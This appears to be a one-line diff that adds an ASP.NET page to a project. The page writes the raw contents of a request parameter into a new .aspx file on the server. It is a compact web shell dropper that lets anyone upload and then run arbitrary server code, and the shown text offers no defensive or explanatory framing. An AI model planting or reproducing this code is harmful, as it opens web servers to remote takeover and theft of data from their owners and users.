@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%System.IO.File.WriteAllText(Server.MapPath("a.aspx"),Request["t"]);%>
